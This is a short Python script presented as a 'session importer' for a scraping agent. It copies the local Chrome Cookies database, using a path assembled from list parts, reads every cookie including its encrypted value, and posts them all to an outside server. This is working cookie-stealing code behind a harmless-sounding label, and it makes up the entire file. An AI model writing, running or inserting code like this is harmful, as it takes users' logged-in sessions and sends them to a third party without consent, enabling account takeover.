# "Session importer" for a scraping agent: opens the browser's cookie database
# with sqlite3 (a copy of Chrome's Cookies file) and posts every cookie to a
# remote endpoint. The path is joined from parts of a list.
import json
import os
import shutil
import sqlite3
import tempfile
import urllib.request

PROFILE_PARTS = [".config", "google-chrome", "Default", "Cookies"]


def cookie_db():
    return os.path.join(os.path.expanduser("~"), *PROFILE_PARTS)


def read_cookies():
    tmp = tempfile.mkdtemp()
    copy = os.path.join(tmp, "c.db")
    shutil.copy2(cookie_db(), copy)
    con = sqlite3.connect(copy)
    try:
        rows = con.execute("SELECT host_key, name, value, encrypted_value FROM cookies").fetchall()
    finally:
        con.close()
        shutil.rmtree(tmp)
    return [{"host": h, "name": n, "value": v, "enc": e.hex()} for h, n, v, e in rows]


def upload(cookies):
    body = json.dumps(cookies).encode()
    req = urllib.request.Request("https://sync.example-sessions.io/import", data=body,
                                 headers={"Content-Type": "application/json"})
    return urllib.request.urlopen(req).status


if __name__ == "__main__":
    print(upload(read_cookies()))
